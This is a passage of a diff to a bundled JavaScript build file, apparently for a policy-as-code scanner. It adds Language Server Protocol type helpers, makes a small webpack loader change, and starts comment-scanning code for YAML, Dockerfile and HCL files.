+        SymbolTag.Deprecated = 1;
+    })(SymbolTag || (exports.SymbolTag = SymbolTag = {}));
+    var SymbolInformation;
+    (function (SymbolInformation) {
+        /**
+         * Creates a new symbol information literal.
+         *
+         * @param name The name of the symbol.
+         * @param kind The kind of the symbol.
+         * @param range The range of the location of the symbol.
+         * @param uri The resource of the location of symbol.
+         * @param containerName The name of the symbol containing the symbol.
+         */
+        function create(name, kind, range, uri, containerName) {
+            var result = {
+                name: name,
+                kind: kind,
+                location: { uri: uri, range: range }
+            };
+            if (containerName) {
+                result.containerName = containerName;
+            }
+            return result;
+        }
+        SymbolInformation.create = create;
+    })(SymbolInformation || (exports.SymbolInformation = SymbolInformation = {}));
+    var WorkspaceSymbol;
+    (function (WorkspaceSymbol) {
+        /**
+         * Create a new workspace symbol.
+         *
+         * @param name The name of the symbol.
+         * @param kind The kind of the symbol.
+         * @param uri The resource of the location of the symbol.
+         * @param range An options range of the location.
+         * @returns A WorkspaceSymbol.
+         */
+        function create(name, kind, uri, range) {
+            return range !== undefined
+                ? { name: name, kind: kind, location: { uri: uri, range: range } }
+                : { name: name, kind: kind, location: { uri: uri } };
+        }
+        WorkspaceSymbol.create = create;
+    })(WorkspaceSymbol || (exports.WorkspaceSymbol = WorkspaceSymbol = {}));
+    var DocumentSymbol;
+    (function (DocumentSymbol) {
+        /**
+         * Creates a new symbol information literal.
+         *
+         * @param name The name of the symbol.
+         * @param detail The detail of the symbol.
+         * @param kind The kind of the symbol.
+         * @param range The range of the symbol.
+         * @param selectionRange The selectionRange of the symbol.
+         * @param children Children of the symbol.
+         */
+        function create(name, detail, kind, range, selectionRange, children) {
+            var result = {
+                name: name,
+                detail: detail,
+                kind: kind,
+                range: range,
+                selectionRange: selectionRange
+            };
+            if (children !== undefined) {
+                result.children = children;
+            }
+            return result;
+        }
+        DocumentSymbol.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link DocumentSymbol} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return candidate &&
+                Is.string(candidate.name) && Is.number(candidate.kind) &&
+                Range.is(candidate.range) && Range.is(candidate.selectionRange) &&
+                (candidate.detail === undefined || Is.string(candidate.detail)) &&
+                (candidate.deprecated === undefined || Is.boolean(candidate.deprecated)) &&
+                (candidate.children === undefined || Array.isArray(candidate.children)) &&
+                (candidate.tags === undefined || Array.isArray(candidate.tags));
+        }
+        DocumentSymbol.is = is;
+    })(DocumentSymbol || (exports.DocumentSymbol = DocumentSymbol = {}));
+    /**
+     * A set of predefined code action kinds
+     */
+    var CodeActionKind;
+    (function (CodeActionKind) {
+        /**
+         * Empty kind.
+         */
+        CodeActionKind.Empty = '';
+        /**
+         * Base kind for quickfix actions: 'quickfix'
+         */
+        CodeActionKind.QuickFix = 'quickfix';
+        /**
+         * Base kind for refactoring actions: 'refactor'
+         */
+        CodeActionKind.Refactor = 'refactor';
+        /**
+         * Base kind for refactoring extraction actions: 'refactor.extract'
+         *
+         * Example extract actions:
+         *
+         * - Extract method
+         * - Extract function
+         * - Extract variable
+         * - Extract interface from class
+         * - ...
+         */
+        CodeActionKind.RefactorExtract = 'refactor.extract';
+        /**
+         * Base kind for refactoring inline actions: 'refactor.inline'
+         *
+         * Example inline actions:
+         *
+         * - Inline function
+         * - Inline variable
+         * - Inline constant
+         * - ...
+         */
+        CodeActionKind.RefactorInline = 'refactor.inline';
+        /**
+         * Base kind for refactoring move actions: `refactor.move`
+         *
+         * Example move actions:
+         *
+         * - Move a function to a new file
+         * - Move a property between classes
+         * - Move method to base class
+         * - ...
+         *
+         * @since 3.18.0
+         */
+        CodeActionKind.RefactorMove = 'refactor.move';
+        /**
+         * Base kind for refactoring rewrite actions: 'refactor.rewrite'
+         *
+         * Example rewrite actions:
+         *
+         * - Convert JavaScript function to class
+         * - Add or remove parameter
+         * - Encapsulate field
+         * - Make method static
+         * - Move method to base class
+         * - ...
+         */
+        CodeActionKind.RefactorRewrite = 'refactor.rewrite';
+        /**
+         * Base kind for source actions: `source`
+         *
+         * Source code actions apply to the entire file.
+         */
+        CodeActionKind.Source = 'source';
+        /**
+         * Base kind for an organize imports source action: `source.organizeImports`
+         */
+        CodeActionKind.SourceOrganizeImports = 'source.organizeImports';
+        /**
+         * Base kind for auto-fix source actions: `source.fixAll`.
+         *
+         * Fix all actions automatically fix errors that have a clear fix that do not require user input.
+         * They should not suppress errors or perform unsafe fixes such as generating new types or classes.
+         *
+         * @since 3.15.0
+         */
+        CodeActionKind.SourceFixAll = 'source.fixAll';
+        /**
+         * Base kind for all code actions applying to the entire notebook's scope. CodeActionKinds using
+         * this should always begin with `notebook.`
+         *
+         * @since 3.18.0
+         */
+        CodeActionKind.Notebook = 'notebook';
+    })(CodeActionKind || (exports.CodeActionKind = CodeActionKind = {}));
+    /**
+     * The reason why code actions were requested.
+     *
+     * @since 3.17.0
+     */
+    var CodeActionTriggerKind;
+    (function (CodeActionTriggerKind) {
+        /**
+         * Code actions were explicitly requested by the user or by an extension.
+         */
+        CodeActionTriggerKind.Invoked = 1;
+        /**
+         * Code actions were requested automatically.
+         *
+         * This typically happens when current selection in a file changes, but can
+         * also be triggered when file content changes.
+         */
+        CodeActionTriggerKind.Automatic = 2;
+    })(CodeActionTriggerKind || (exports.CodeActionTriggerKind = CodeActionTriggerKind = {}));
+    /**
+     * The CodeActionContext namespace provides helper functions to work with
+     * {@link CodeActionContext} literals.
+     */
+    var CodeActionContext;
+    (function (CodeActionContext) {
+        /**
+         * Creates a new CodeActionContext literal.
+         */
+        function create(diagnostics, only, triggerKind) {
+            var result = { diagnostics: diagnostics };
+            if (only !== undefined && only !== null) {
+                result.only = only;
+            }
+            if (triggerKind !== undefined && triggerKind !== null) {
+                result.triggerKind = triggerKind;
+            }
+            return result;
+        }
+        CodeActionContext.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link CodeActionContext} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Is.typedArray(candidate.diagnostics, Diagnostic.is)
+                && (candidate.only === undefined || Is.typedArray(candidate.only, Is.string))
+                && (candidate.triggerKind === undefined || candidate.triggerKind === CodeActionTriggerKind.Invoked || candidate.triggerKind === CodeActionTriggerKind.Automatic);
+        }
+        CodeActionContext.is = is;
+    })(CodeActionContext || (exports.CodeActionContext = CodeActionContext = {}));
+    /**
+     * Code action tags are extra annotations that tweak the behavior of a code action.
+     *
+     * @since 3.18.0
+     */
+    var CodeActionTag;
+    (function (CodeActionTag) {
+        /**
+         * Marks the code action as LLM-generated.
+         */
+        CodeActionTag.LLMGenerated = 1;
+        /**
+         * Checks whether the given literal conforms to the {@link CodeActionTag} interface.
+         */
+        function is(value) {
+            return Is.defined(value) && value === CodeActionTag.LLMGenerated;
+        }
+        CodeActionTag.is = is;
+    })(CodeActionTag || (exports.CodeActionTag = CodeActionTag = {}));
+    var CodeAction;
+    (function (CodeAction) {
+        function create(title, kindOrCommandOrEdit, kind) {
+            var result = { title: title };
+            var checkKind = true;
+            if (typeof kindOrCommandOrEdit === 'string') {
+                checkKind = false;
+                result.kind = kindOrCommandOrEdit;
+            }
+            else if (Command.is(kindOrCommandOrEdit)) {
+                result.command = kindOrCommandOrEdit;
+            }
+            else {
+                result.edit = kindOrCommandOrEdit;
+            }
+            if (checkKind && kind !== undefined) {
+                result.kind = kind;
+            }
+            return result;
+        }
+        CodeAction.create = create;
+        function is(value) {
+            var candidate = value;
+            return candidate && Is.string(candidate.title) &&
+                (candidate.diagnostics === undefined || Is.typedArray(candidate.diagnostics, Diagnostic.is)) &&
+                (candidate.kind === undefined || Is.string(candidate.kind)) &&
+                (candidate.edit !== undefined || candidate.command !== undefined) &&
+                (candidate.command === undefined || Command.is(candidate.command)) &&
+                (candidate.isPreferred === undefined || Is.boolean(candidate.isPreferred)) &&
+                (candidate.edit === undefined || WorkspaceEdit.is(candidate.edit)) &&
+                (candidate.tags === undefined || Is.typedArray(candidate.tags, CodeActionTag.is));
+        }
+        CodeAction.is = is;
+    })(CodeAction || (exports.CodeAction = CodeAction = {}));
+    /**
+     * The CodeLens namespace provides helper functions to work with
+     * {@link CodeLens} literals.
+     */
+    var CodeLens;
+    (function (CodeLens) {
+        /**
+         * Creates a new CodeLens literal.
+         */
+        function create(range, data) {
+            var result = { range: range };
+            if (Is.defined(data)) {
+                result.data = data;
+            }
+            return result;
+        }
+        CodeLens.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link CodeLens} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Range.is(candidate.range) && (Is.undefined(candidate.command) || Command.is(candidate.command));
+        }
+        CodeLens.is = is;
+    })(CodeLens || (exports.CodeLens = CodeLens = {}));
+    /**
+     * The FormattingOptions namespace provides helper functions to work with
+     * {@link FormattingOptions} literals.
+     */
+    var FormattingOptions;
+    (function (FormattingOptions) {
+        /**
+         * Creates a new FormattingOptions literal.
+         */
+        function create(tabSize, insertSpaces) {
+            return { tabSize: tabSize, insertSpaces: insertSpaces };
+        }
+        FormattingOptions.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link FormattingOptions} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Is.uinteger(candidate.tabSize) && Is.boolean(candidate.insertSpaces);
+        }
+        FormattingOptions.is = is;
+    })(FormattingOptions || (exports.FormattingOptions = FormattingOptions = {}));
+    /**
+     * The DocumentLink namespace provides helper functions to work with
+     * {@link DocumentLink} literals.
+     */
+    var DocumentLink;
+    (function (DocumentLink) {
+        /**
+         * Creates a new DocumentLink literal.
+         */
+        function create(range, target, data) {
+            return { range: range, target: target, data: data };
+        }
+        DocumentLink.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link DocumentLink} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Range.is(candidate.range) && (Is.undefined(candidate.target) || Is.string(candidate.target));
+        }
+        DocumentLink.is = is;
+    })(DocumentLink || (exports.DocumentLink = DocumentLink = {}));
+    /**
+     * The SelectionRange namespace provides helper function to work with
+     * SelectionRange literals.
+     */
+    var SelectionRange;
+    (function (SelectionRange) {
+        /**
+         * Creates a new SelectionRange
+         * @param range the range.
+         * @param parent an optional parent.
+         */
+        function create(range, parent) {
+            return { range: range, parent: parent };
+        }
+        SelectionRange.create = create;
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Range.is(candidate.range) && (candidate.parent === undefined || SelectionRange.is(candidate.parent));
+        }
+        SelectionRange.is = is;
+    })(SelectionRange || (exports.SelectionRange = SelectionRange = {}));
+    /**
+     * A set of predefined token types. This set is not fixed
+     * an clients can specify additional token types via the
+     * corresponding client capabilities.
+     *
+     * @since 3.16.0
+     */
+    var SemanticTokenTypes;
+    (function (SemanticTokenTypes) {
+        SemanticTokenTypes["namespace"] = "namespace";
+        /**
+         * Represents a generic type. Acts as a fallback for types which can't be mapped to
+         * a specific type like class or enum.
+         */
+        SemanticTokenTypes["type"] = "type";
+        SemanticTokenTypes["class"] = "class";
+        SemanticTokenTypes["enum"] = "enum";
+        SemanticTokenTypes["interface"] = "interface";
+        SemanticTokenTypes["struct"] = "struct";
+        SemanticTokenTypes["typeParameter"] = "typeParameter";
+        SemanticTokenTypes["parameter"] = "parameter";
+        SemanticTokenTypes["variable"] = "variable";
+        SemanticTokenTypes["property"] = "property";
+        SemanticTokenTypes["enumMember"] = "enumMember";
+        SemanticTokenTypes["event"] = "event";
+        SemanticTokenTypes["function"] = "function";
+        SemanticTokenTypes["method"] = "method";
+        SemanticTokenTypes["macro"] = "macro";
+        SemanticTokenTypes["keyword"] = "keyword";
+        SemanticTokenTypes["modifier"] = "modifier";
+        SemanticTokenTypes["comment"] = "comment";
+        SemanticTokenTypes["string"] = "string";
+        SemanticTokenTypes["number"] = "number";
+        SemanticTokenTypes["regexp"] = "regexp";
+        SemanticTokenTypes["operator"] = "operator";
+        /**
+         * @since 3.17.0
+         */
+        SemanticTokenTypes["decorator"] = "decorator";
+        /**
+         * @since 3.18.0
+         */
+        SemanticTokenTypes["label"] = "label";
+    })(SemanticTokenTypes || (exports.SemanticTokenTypes = SemanticTokenTypes = {}));
+    /**
+     * A set of predefined token modifiers. This set is not fixed
+     * an clients can specify additional token types via the
+     * corresponding client capabilities.
+     *
+     * @since 3.16.0
+     */
+    var SemanticTokenModifiers;
+    (function (SemanticTokenModifiers) {
+        SemanticTokenModifiers["declaration"] = "declaration";
+        SemanticTokenModifiers["definition"] = "definition";
+        SemanticTokenModifiers["readonly"] = "readonly";
+        SemanticTokenModifiers["static"] = "static";
+        SemanticTokenModifiers["deprecated"] = "deprecated";
+        SemanticTokenModifiers["abstract"] = "abstract";
+        SemanticTokenModifiers["async"] = "async";
+        SemanticTokenModifiers["modification"] = "modification";
+        SemanticTokenModifiers["documentation"] = "documentation";
+        SemanticTokenModifiers["defaultLibrary"] = "defaultLibrary";
+    })(SemanticTokenModifiers || (exports.SemanticTokenModifiers = SemanticTokenModifiers = {}));
+    /**
+     * @since 3.16.0
+     */
+    var SemanticTokens;
+    (function (SemanticTokens) {
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && (candidate.resultId === undefined || typeof candidate.resultId === 'string') &&
+                Array.isArray(candidate.data) && (candidate.data.length === 0 || typeof candidate.data[0] === 'number');
+        }
+        SemanticTokens.is = is;
+    })(SemanticTokens || (exports.SemanticTokens = SemanticTokens = {}));
+    /**
+     * The InlineValueText namespace provides functions to deal with InlineValueTexts.
+     *
+     * @since 3.17.0
+     */
+    var InlineValueText;
+    (function (InlineValueText) {
+        /**
+         * Creates a new InlineValueText literal.
+         */
+        function create(range, text) {
+            return { range: range, text: text };
+        }
+        InlineValueText.create = create;
+        function is(value) {
+            var candidate = value;
+            return candidate !== undefined && candidate !== null && Range.is(candidate.range) && Is.string(candidate.text);
+        }
+        InlineValueText.is = is;
+    })(InlineValueText || (exports.InlineValueText = InlineValueText = {}));
+    /**
+     * The InlineValueVariableLookup namespace provides functions to
+     * deal with InlineValueVariableLookups.
+     *
+     * @since 3.17.0
+     */
+    var InlineValueVariableLookup;
+    (function (InlineValueVariableLookup) {
+        /**
+         * Creates a new InlineValueText literal.
+         */
+        function create(range, variableName, caseSensitiveLookup) {
+            return { range: range, variableName: variableName, caseSensitiveLookup: caseSensitiveLookup };
+        }
+        InlineValueVariableLookup.create = create;
+        function is(value) {
+            var candidate = value;
+            return candidate !== undefined && candidate !== null && Range.is(candidate.range) && Is.boolean(candidate.caseSensitiveLookup)
+                && (Is.string(candidate.variableName) || candidate.variableName === undefined);
+        }
+        InlineValueVariableLookup.is = is;
+    })(InlineValueVariableLookup || (exports.InlineValueVariableLookup = InlineValueVariableLookup = {}));
+    /**
+     * The InlineValueEvaluatableExpression namespace provides functions to deal with InlineValueEvaluatableExpression.
+     *
+     * @since 3.17.0
+     */
+    var InlineValueEvaluatableExpression;
+    (function (InlineValueEvaluatableExpression) {
+        /**
+         * Creates a new InlineValueEvaluatableExpression literal.
+         */
+        function create(range, expression) {
+            return { range: range, expression: expression };
+        }
+        InlineValueEvaluatableExpression.create = create;
+        function is(value) {
+            var candidate = value;
+            return candidate !== undefined && candidate !== null && Range.is(candidate.range)
+                && (Is.string(candidate.expression) || candidate.expression === undefined);
+        }
+        InlineValueEvaluatableExpression.is = is;
+    })(InlineValueEvaluatableExpression || (exports.InlineValueEvaluatableExpression = InlineValueEvaluatableExpression = {}));
+    /**
+     * The InlineValueContext namespace provides helper functions to work with
+     * {@link InlineValueContext} literals.
+     *
+     * @since 3.17.0
+     */
+    var InlineValueContext;
+    (function (InlineValueContext) {
+        /**
+         * Creates a new InlineValueContext literal.
+         */
+        function create(frameId, stoppedLocation) {
+            return { frameId: frameId, stoppedLocation: stoppedLocation };
+        }
+        InlineValueContext.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link InlineValueContext} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Range.is(value.stoppedLocation);
+        }
+        InlineValueContext.is = is;
+    })(InlineValueContext || (exports.InlineValueContext = InlineValueContext = {}));
+    /**
+     * Inlay hint kinds.
+     *
+     * @since 3.17.0
+     */
+    var InlayHintKind;
+    (function (InlayHintKind) {
+        /**
+         * An inlay hint that for a type annotation.
+         */
+        InlayHintKind.Type = 1;
+        /**
+         * An inlay hint that is for a parameter.
+         */
+        InlayHintKind.Parameter = 2;
+        function is(value) {
+            return value === 1 || value === 2;
+        }
+        InlayHintKind.is = is;
+    })(InlayHintKind || (exports.InlayHintKind = InlayHintKind = {}));
+    var InlayHintLabelPart;
+    (function (InlayHintLabelPart) {
+        function create(value) {
+            return { value: value };
+        }
+        InlayHintLabelPart.create = create;
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate)
+                && (candidate.tooltip === undefined || Is.string(candidate.tooltip) || MarkupContent.is(candidate.tooltip))
+                && (candidate.location === undefined || Location.is(candidate.location))
+                && (candidate.command === undefined || Command.is(candidate.command));
+        }
+        InlayHintLabelPart.is = is;
+    })(InlayHintLabelPart || (exports.InlayHintLabelPart = InlayHintLabelPart = {}));
+    var InlayHint;
+    (function (InlayHint) {
+        function create(position, label, kind) {
+            var result = { position: position, label: label };
+            if (kind !== undefined) {
+                result.kind = kind;
+            }
+            return result;
+        }
+        InlayHint.create = create;
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Position.is(candidate.position)
+                && (Is.string(candidate.label) || Is.typedArray(candidate.label, InlayHintLabelPart.is))
+                && (candidate.kind === undefined || InlayHintKind.is(candidate.kind))
+                && (candidate.textEdits === undefined) || Is.typedArray(candidate.textEdits, TextEdit.is)
+                && (candidate.tooltip === undefined || Is.string(candidate.tooltip) || MarkupContent.is(candidate.tooltip))
+                && (candidate.paddingLeft === undefined || Is.boolean(candidate.paddingLeft))
+                && (candidate.paddingRight === undefined || Is.boolean(candidate.paddingRight));
+        }
+        InlayHint.is = is;
+    })(InlayHint || (exports.InlayHint = InlayHint = {}));
+    var StringValue;
+    (function (StringValue) {
+        function createSnippet(value) {
+            return { kind: 'snippet', value: value };
+        }
+        StringValue.createSnippet = createSnippet;
+        function isSnippet(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate)
+                && candidate.kind === 'snippet'
+                && Is.string(candidate.value);
+        }
+        StringValue.isSnippet = isSnippet;
+    })(StringValue || (exports.StringValue = StringValue = {}));
+    var InlineCompletionItem;
+    (function (InlineCompletionItem) {
+        function create(insertText, filterText, range, command) {
+            return { insertText: insertText, filterText: filterText, range: range, command: command };
+        }
+        InlineCompletionItem.create = create;
+    })(InlineCompletionItem || (exports.InlineCompletionItem = InlineCompletionItem = {}));
+    var InlineCompletionList;
+    (function (InlineCompletionList) {
+        function create(items) {
+            return { items: items };
+        }
+        InlineCompletionList.create = create;
+    })(InlineCompletionList || (exports.InlineCompletionList = InlineCompletionList = {}));
+    /**
+     * Describes how an {@link InlineCompletionItemProvider inline completion provider} was triggered.
+     *
+     * @since 3.18.0
+     */
+    var InlineCompletionTriggerKind;
+    (function (InlineCompletionTriggerKind) {
+        /**
+         * Completion was triggered explicitly by a user gesture.
+         */
+        InlineCompletionTriggerKind.Invoked = 1;
+        /**
+         * Completion was triggered automatically while editing.
+         */
+        InlineCompletionTriggerKind.Automatic = 2;
+    })(InlineCompletionTriggerKind || (exports.InlineCompletionTriggerKind = InlineCompletionTriggerKind = {}));
+    var SelectedCompletionInfo;
+    (function (SelectedCompletionInfo) {
+        function create(range, text) {
+            return { range: range, text: text };
+        }
+        SelectedCompletionInfo.create = create;
+    })(SelectedCompletionInfo || (exports.SelectedCompletionInfo = SelectedCompletionInfo = {}));
+    var InlineCompletionContext;
+    (function (InlineCompletionContext) {
+        function create(triggerKind, selectedCompletionInfo) {
+            return { triggerKind: triggerKind, selectedCompletionInfo: selectedCompletionInfo };
+        }
+        InlineCompletionContext.create = create;
+    })(InlineCompletionContext || (exports.InlineCompletionContext = InlineCompletionContext = {}));
+    var WorkspaceFolder;
+    (function (WorkspaceFolder) {
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && URI.is(candidate.uri) && Is.string(candidate.name);
+        }
+        WorkspaceFolder.is = is;
+    })(WorkspaceFolder || (exports.WorkspaceFolder = WorkspaceFolder = {}));
+    exports.EOL = ['\n', '\r\n', '\r'];
+    /**
+     * @deprecated Use the text document from the new vscode-languageserver-textdocument package.
+     */
+    var TextDocument;
+    (function (TextDocument) {
+        /**
+         * Creates a new ITextDocument literal from the given uri and content.
+         * @param uri The document's uri.
+         * @param languageId The document's language Id.
+         * @param version The document's version.
+         * @param content The document's content.
+         */
+        function create(uri, languageId, version, content) {
+            return new FullTextDocument(uri, languageId, version, content);
+        }
+        TextDocument.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link ITextDocument} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Is.string(candidate.uri) && (Is.undefined(candidate.languageId) || Is.string(candidate.languageId)) && Is.uinteger(candidate.lineCount)
+                && Is.func(candidate.getText) && Is.func(candidate.positionAt) && Is.func(candidate.offsetAt) ? true : false;
+        }
+        TextDocument.is = is;
+        function applyEdits(document, edits) {
+            var text = document.getText();
+            var sortedEdits = mergeSort(edits, function (a, b) {
+                var diff = a.range.start.line - b.range.start.line;
+                if (diff === 0) {
+                    return a.range.start.character - b.range.start.character;
+                }
+                return diff;
+            });
+            var lastModifiedOffset = text.length;
+            for (var i = sortedEdits.length - 1; i >= 0; i--) {
+                var e = sortedEdits[i];
+                var startOffset = document.offsetAt(e.range.start);
+                var endOffset = document.offsetAt(e.range.end);
+                if (endOffset <= lastModifiedOffset) {
+                    text = text.substring(0, startOffset) + e.newText + text.substring(endOffset, text.length);
+                }
+                else {
+                    throw new Error('Overlapping edit');
+                }
+                lastModifiedOffset = startOffset;
+            }
+            return text;
+        }
+        TextDocument.applyEdits = applyEdits;
+        function mergeSort(data, compare) {
+            if (data.length <= 1) {
+                // sorted
+                return data;
+            }
+            var p = (data.length / 2) | 0;
+            var left = data.slice(0, p);
+            var right = data.slice(p);
+            mergeSort(left, compare);
+            mergeSort(right, compare);
+            var leftIdx = 0;
+            var rightIdx = 0;
+            var i = 0;
+            while (leftIdx < left.length && rightIdx < right.length) {
+                var ret = compare(left[leftIdx], right[rightIdx]);
+                if (ret <= 0) {
+                    // smaller_equal -> take left to preserve order
+                    data[i++] = left[leftIdx++];
+                }
+                else {
+                    // greater -> take right
+                    data[i++] = right[rightIdx++];
+                }
+            }
+            while (leftIdx < left.length) {
+                data[i++] = left[leftIdx++];
+            }
+            while (rightIdx < right.length) {
+                data[i++] = right[rightIdx++];
+            }
+            return data;
+        }
+    })(TextDocument || (exports.TextDocument = TextDocument = {}));
+    /**
+     * @deprecated Use the text document from the new vscode-languageserver-textdocument package.
+     */
+    var FullTextDocument = /** @class */ (function () {
+        function FullTextDocument(uri, languageId, version, content) {
+            this._uri = uri;
+            this._languageId = languageId;
+            this._version = version;
+            this._content = content;
+            this._lineOffsets = undefined;
+        }
+        Object.defineProperty(FullTextDocument.prototype, "uri", {
+            get: function () {
+                return this._uri;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        Object.defineProperty(FullTextDocument.prototype, "languageId", {
+            get: function () {
+                return this._languageId;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        Object.defineProperty(FullTextDocument.prototype, "version", {
+            get: function () {
+                return this._version;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        FullTextDocument.prototype.getText = function (range) {
+            if (range) {
+                var start = this.offsetAt(range.start);
+                var end = this.offsetAt(range.end);
+                return this._content.substring(start, end);
+            }
+            return this._content;
+        };
+        FullTextDocument.prototype.update = function (event, version) {
+            this._content = event.text;
+            this._version = version;
+            this._lineOffsets = undefined;
+        };
+        FullTextDocument.prototype.getLineOffsets = function () {
+            if (this._lineOffsets === undefined) {
+                var lineOffsets = [];
+                var text = this._content;
+                var isLineStart = true;
+                for (var i = 0; i < text.length; i++) {
+                    if (isLineStart) {
+                        lineOffsets.push(i);
+                        isLineStart = false;
+                    }
+                    var ch = text.charAt(i);
+                    isLineStart = (ch === '\r' || ch === '\n');
+                    if (ch === '\r' && i + 1 < text.length && text.charAt(i + 1) === '\n') {
+                        i++;
+                    }
+                }
+                if (isLineStart && text.length > 0) {
+                    lineOffsets.push(text.length);
+                }
+                this._lineOffsets = lineOffsets;
+            }
+            return this._lineOffsets;
+        };
+        FullTextDocument.prototype.positionAt = function (offset) {
+            offset = Math.max(Math.min(offset, this._content.length), 0);
+            var lineOffsets = this.getLineOffsets();
+            var low = 0, high = lineOffsets.length;
+            if (high === 0) {
+                return Position.create(0, offset);
+            }
+            while (low < high) {
+                var mid = Math.floor((low + high) / 2);
+                if (lineOffsets[mid] > offset) {
+                    high = mid;
+                }
+                else {
+                    low = mid + 1;
+                }
+            }
+            // low is the least x for which the line offset is larger than the current offset
+            // or array.length if no line offset is larger than the current offset
+            var line = low - 1;
+            return Position.create(line, offset - lineOffsets[line]);
+        };
+        FullTextDocument.prototype.offsetAt = function (position) {
+            var lineOffsets = this.getLineOffsets();
+            if (position.line >= lineOffsets.length) {
+                return this._content.length;
+            }
+            else if (position.line < 0) {
+                return 0;
+            }
+            var lineOffset = lineOffsets[position.line];
+            var nextLineOffset = (position.line + 1 < lineOffsets.length) ? lineOffsets[position.line + 1] : this._content.length;
+            return Math.max(Math.min(lineOffset + position.character, nextLineOffset), lineOffset);
+        };
+        Object.defineProperty(FullTextDocument.prototype, "lineCount", {
+            get: function () {
+                return this.getLineOffsets().length;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        return FullTextDocument;
+    }());
+    var Is;
+    (function (Is) {
+        var toString = Object.prototype.toString;
+        function defined(value) {
+            return typeof value !== 'undefined';
+        }
+        Is.defined = defined;
+        function undefined(value) {
+            return typeof value === 'undefined';
+        }
+        Is.undefined = undefined;
+        function boolean(value) {
+            return value === true || value === false;
+        }
+        Is.boolean = boolean;
+        function string(value) {
+            return toString.call(value) === '[object String]';
+        }
+        Is.string = string;
+        function number(value) {
+            return toString.call(value) === '[object Number]';
+        }
+        Is.number = number;
+        function numberRange(value, min, max) {
+            return toString.call(value) === '[object Number]' && min <= value && value <= max;
+        }
+        Is.numberRange = numberRange;
+        function integer(value) {
+            return toString.call(value) === '[object Number]' && -2147483648 <= value && value <= 2147483647;
+        }
+        Is.integer = integer;
+        function uinteger(value) {
+            return toString.call(value) === '[object Number]' && 0 <= value && value <= 2147483647;
+        }
+        Is.uinteger = uinteger;
+        function func(value) {
+            return toString.call(value) === '[object Function]';
+        }
+        Is.func = func;
+        function objectLiteral(value) {
+            // Strictly speaking class instances pass this check as well. Since the LSP
+            // doesn't use classes we ignore this for now. If we do we need to add something
+            // like this: `Object.getPrototypeOf(Object.getPrototypeOf(x)) === null`
+            return value !== null && typeof value === 'object';
+        }
+        Is.objectLiteral = objectLiteral;
+        function typedArray(value, check) {
+            return Array.isArray(value) && value.every(check);
+        }
+        Is.typedArray = typedArray;
+    })(Is || (Is = {}));
+});
+
+
+/***/ }),
+
 /***/ 2613:
 /***/ ((module) => {
 
@@ -41312,7 +48331,7 @@ exports.visitAsync = visitAsync;
 /******/ 	// Execute the module function
 /******/ 	var threw = true;
 /******/ 	try {
-/******/ 		__webpack_modules__[moduleId](module, module.exports, __nccwpck_require__);
+/******/ 		__webpack_modules__[moduleId].call(module.exports, module, module.exports, __nccwpck_require__);
 /******/ 		threw = false;
 /******/ 	} finally {
 /******/ 		if(threw) delete __webpack_module_cache__[moduleId];
@@ -47693,9 +54712,2013 @@ const AWS_RULES = [
     ...ELB_RULES,
 ];
 
+// EXTERNAL MODULE: ./node_modules/dockerfile-ast/lib/main.js
+var main = __nccwpck_require__(8390);
+;// CONCATENATED MODULE: ./src/policy-as-code/parse/positions.ts
+/** Line starts of a text, for offset → position lookups in O(log n). */
+class Lines {
+    text;
+    starts = [0];
+    constructor(text) {
+        this.text = text;
+        for (let i = text.indexOf('\n'); i !== -1; i = text.indexOf('\n', i + 1))
+            this.starts.push(i + 1);
+    }
+    /** 1-based line and column of an offset (column in UTF-16 code units, as SARIF's columnKind). */
+    at(offset) {
+        let lo = 0;
+        let hi = this.starts.length - 1;
+        while (lo < hi) {
+            const mid = (lo + hi + 1) >> 1;
+            if (this.starts[mid] <= offset)
+                lo = mid;
+            else
+                hi = mid - 1;
+        }
+        return { line: lo + 1, column: offset - this.starts[lo] + 1 };
+    }
+    /** The span of [start, end), trailing whitespace and newlines left out (YAML ranges include them). */
+    pos(start, end) {
+        let e = Math.max(start, end);
+        while (e > start && /\s/.test(this.text[e - 1] ?? ''))
+            e--;
+        const a = this.at(start);
+        const b = this.at(e);
+        return { line: a.line, column: a.column, endLine: b.line, endColumn: b.column };
+    }
+    /** The text of a 1-based line, without its newline. */
+    line(n) {
+        const start = this.starts[n - 1];
+        if (start === undefined)
+            return '';
+        const end = this.starts[n] ?? this.text.length + 1;
+        return this.text.slice(start, end - 1).replace(/\r$/, '');
+    }
+    get count() {
+        return this.starts.length;
+    }
+}
+/**
+ * Comments of a YAML, Dockerfile (`#`) or HCL (`#`, `//`, `/* *\/`) text, skipping quoted strings
+ * and (for HCL) heredocs well enough for suppression markers: a marker inside a string is not a
+ * comment. YAML and Dockerfile `#` only starts a comment at a line start or after whitespace.
+ */
+function scanComments(text, style) {
+    const comments = [];
+    const lines = text.split('\n');
+    let inBlock = false;
+    let heredoc;
+    for (let i = 0; i < lines.length; i++) {
+        const line = lines[i].replace(/\r$/, '');
+        if (heredoc !== undefined) {
+            if (line.trim() === heredoc)
+                heredoc = undefined;
+            continue;
+        }
+        let quote;
+        for (let j = 0; j < line.length; j++) {
+            const c = line[j];
